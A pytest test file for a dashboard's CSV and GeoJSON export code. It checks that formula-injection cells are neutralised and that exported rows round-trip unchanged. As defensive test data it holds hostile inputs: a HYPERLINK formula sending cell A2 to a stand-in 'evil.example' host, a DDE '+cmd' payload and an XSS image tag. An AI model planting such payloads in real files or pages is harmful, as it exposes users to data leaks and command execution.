"""Export: exact CSV bytes, formula neutralising, GeoJSON, and export -> load round trips."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from dashboard.data import load_events
from dashboard.export import neutralise, to_csv_bytes, to_geojson_bytes
from dashboard.schema import EVENT_COLUMNS
from tests.conftest import load_rows, row


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindent", "'\tindent"),
        ("\rreturn", "'\rreturn"),
        ("\nfeed", "'\nfeed"),
        ("'=already", "''=already"),
        ("'quoted", "'quoted"),
        ("Plain text", "Plain text"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def test_csv_bytes_are_exact(tiny_ref):
    frame = load_rows([row(title="=1+1", value="-5", unit="percent", category="trade")], tiny_ref).frame
    expected = (
        "\ufeff" + ",".join(EVENT_COLUMNS) + "\r\n"
        "2018-11-singapore-summit,'=1+1,Leaders met.,trade,2018-11-13,2018-11-15,false,,Singapore,SGP,"
        "1.29,103.85,false,,RUS,ASEAN,-5,percent,1,the summit in Singapore\r\n"
    )
    assert to_csv_bytes(frame).decode("utf-8") == expected


def test_csv_header_cells_are_neutralised_too(tiny_ref):
    """Defence in depth: the loader never keeps such a column, but a frame built another way
    still gets a safe header."""
    frame = load_rows([row()], tiny_ref).frame.iloc[0:0]
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    frame = frame.assign(**{formula: [], "@x": [], "note": []})
    frame.attrs["extra_columns"] = (formula, "@x", "note")
    expected = (
        "\ufeff"
        + ",".join(EVENT_COLUMNS)
        + ',"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",\'@x,note\r\n'
    )
    assert to_csv_bytes(frame) == expected.encode("utf-8")


HOSTILE_TEXT = [
    '=HYPERLINK("http://evil","click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tstarts with tab",
    "\rstarts with CR",
    "'=apostrophe first",
    "<img src=x onerror=alert(1)>",
    'comma, "quote" and\nnewline',
    "Ünïcödé – “quotes”",
]


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_export_then_load_gives_back_the_same_rows(tiny_ref, text):
    rows = [
        row(
            event_id="a",
            title=text,
            summary=text,
            evidence=text[:200],
            place=text[:100],
            lat="1.29",
            lon="103.85",
        ),
        row(event_id="b", value="-7400000000.5", unit="USD", category="trade", place="", lat="", lon=""),
    ]
    first = load_rows(rows, tiny_ref)
    assert first.ok, [str(p) for p in first.problems]
    again = load_events(to_csv_bytes(first.frame), tiny_ref, frozenset({1}), name="export.csv")
    assert again.ok, [str(p) for p in again.problems]
    pd.testing.assert_frame_equal(first.frame, again.frame)


def test_geojson_has_points_and_null_geometry(tiny_ref):
    frame = load_rows([row(), row(event_id="b", place="", lat="", lon="")], tiny_ref).frame
    data = json.loads(to_geojson_bytes(frame))
    assert data["type"] == "FeatureCollection"
    assert data["features"][0]["geometry"] == {"type": "Point", "coordinates": [103.85, 1.29]}
    assert data["features"][1]["geometry"] is None
    assert data["features"][0]["properties"]["article"] == 1
    assert data["features"][0]["properties"]["value"] is None
    assert list(data["features"][0]["properties"]) == list(EVENT_COLUMNS)


def test_exports_of_no_rows_are_valid(tiny_ref):
    frame = load_rows([row()], tiny_ref).frame.iloc[0:0]
    assert to_csv_bytes(frame).decode("utf-8-sig").strip() == ",".join(EVENT_COLUMNS)
    assert json.loads(to_geojson_bytes(frame))["features"] == []


# ----- exports of a table checked into the Parquet cache, read through the engine ----------------

HOSTILE_CELLS = ['=HYPERLINK("http://e/?"&A2,"x")', "+1", "-x", "@x", "\tx", "''=x", "a\nb", "a\r\nb", "x\ry"]
HOSTILE_CELLS += ["a\u2028b", '"q"', " lead", "trail ", "", "'", "=", "\u0085x", "-"]
NUMBERS = ["1e-7", "123456789.123", "1e20", "-0", "0.1", "7400000000", "999999999999999.9"]


@pytest.fixture
def parquet_dataset(tiny_ref, tmp_path, monkeypatch):
    """A table with hostile text, numbers and two extra columns, served from its Parquet cache."""
    import dashboard.dataset as ds
    from dashboard.data import load_sources
    from tests.conftest import table_bytes

    monkeypatch.setattr(ds, "CACHE_MIN_BYTES", 0)
    monkeypatch.setattr(ds, "LAZY_MIN_ROWS", 0)
    rows = []
    for i, text in enumerate(HOSTILE_CELLS):
        cells = {"summary": text, "notes": text, "n2": f"=cmd{i}"}
        if i < len(NUMBERS):
            cells |= {"value": NUMBERS[i], "unit": "USD"}
        if i % 5 == 0:
            cells |= {"lat": "", "lon": "", "place": "", "date_start": "", "date_end": ""}
        rows.append(row(event_id=f"r-{i:02d}", **cells))
    path = tmp_path / "events.csv"
    path.write_bytes(table_bytes(rows, columns=[*EVENT_COLUMNS, "notes", "n2"]))
    sources, problems = load_sources()
    ds.build_dataset(path, tiny_ref, sources, problems, cache_dir=tmp_path / "c")
    dataset = ds.build_dataset(path, tiny_ref, sources, problems, cache_dir=tmp_path / "c")
    assert dataset.from_cache and dataset.parquet and dataset.result.ok
    return dataset


def test_exports_of_a_cached_table_round_trip_and_the_package_holds_the_same_files(parquet_dataset, tiny_ref):
    import io
    import zipfile

    from dashboard.engine import Selection, for_dataset
    from dashboard.export import FORMATS, ExportContext
    from dashboard.filters import FilterState

    engine = for_dataset(parquet_dataset)
    assert engine.source == str(parquet_dataset.parquet)
    rows = Selection(engine)
    csv_bytes = FORMATS["csv"].write(rows, None)
    back = load_events(csv_bytes, tiny_ref, frozenset({1, 2, 3, 4}), name="back.csv")
    assert back.ok, [str(p) for p in back.problems]
    pd.testing.assert_frame_equal(back.frame, parquet_dataset.result.frame, check_dtype=False)
    geojson = FORMATS["geojson"].write(rows, None)
    json.loads(geojson, parse_constant=lambda c: pytest.fail(f"GeoJSON holds {c}"))
    package = zipfile.ZipFile(
        io.BytesIO(FORMATS["zip"].write(rows, ExportContext(parquet_dataset, FilterState())))
    )
    # The package's files are the downloads' bytes: the extra columns included.
    assert package.read("events.csv") == csv_bytes
    assert package.read("events.geojson") == geojson
    assert b'"n2"' in package.read("datapackage.json")


# ----- the bound on in-browser downloads, and one writer for bytes and files ---------------------


@pytest.mark.parametrize("key", ["csv", "geojson", "zip"])
@pytest.mark.parametrize(("offset", "allowed"), [(-1, True), (0, True), (1, False)])
def test_download_refusal_at_below_and_above_the_bound(key, offset, allowed):
    from dashboard.export import DOWNLOAD_MAX_ROWS, FORMATS, download_refusal

    limit = DOWNLOAD_MAX_ROWS[key]
    why = download_refusal(key, limit + offset)
    if allowed:
        assert why == ""
    else:
        # One sentence that names the format, the limit and the selection's size.
        assert why == (
            f"{FORMATS[key].label} downloads in the browser are limited to {limit:,} rows, and these "
            f"filters select {limit + 1:,}."
        )


def test_download_bounds_cover_every_format_and_an_unknown_one_is_named():
    from dashboard.export import DOWNLOAD_MAX_ROWS, FORMATS, download_refusal

    assert set(DOWNLOAD_MAX_ROWS) == set(FORMATS)
    assert all(download_refusal(key, 0) == "" for key in FORMATS)
    with pytest.raises(ValueError, match="'pdf'"):
        download_refusal("pdf", 1)


@pytest.mark.parametrize("key", ["csv", "geojson", "zip"])
def test_a_format_streamed_to_a_file_is_its_bytes(parquet_dataset, key, tmp_path):
    """`stream` is the one writer: into a file (the CLI) or into memory (`write`, the page)."""
    from dashboard.engine import Selection, for_dataset
    from dashboard.export import FORMATS, ExportContext
    from dashboard.filters import FilterState

    rows = Selection(for_dataset(parquet_dataset))
    context = ExportContext(parquet_dataset, FilterState())
    path = tmp_path / f"out.{key}"
    with path.open("wb") as out:
        FORMATS[key].stream(rows, context, out)
    assert path.read_bytes() == FORMATS[key].write(rows, context)


@pytest.mark.parametrize("per_chunk", [1, 2, 7])
def test_geojson_written_a_few_features_at_a_time_is_the_same_text(parquet_dataset, monkeypatch, per_chunk):
    from dashboard import export
    from dashboard.engine import Selection, for_dataset

    rows = Selection(for_dataset(parquet_dataset))
    whole = export.to_geojson_bytes(rows)
    monkeypatch.setattr(export, "FEATURES_PER_CHUNK", per_chunk)
    chunks = list(export.geojson_chunks(rows))
    assert len(chunks) > 2 and b"".join(chunks) == whole
    collection = json.loads(whole)
    assert whole.decode("utf-8") == json.dumps(collection, ensure_ascii=False, indent=1)
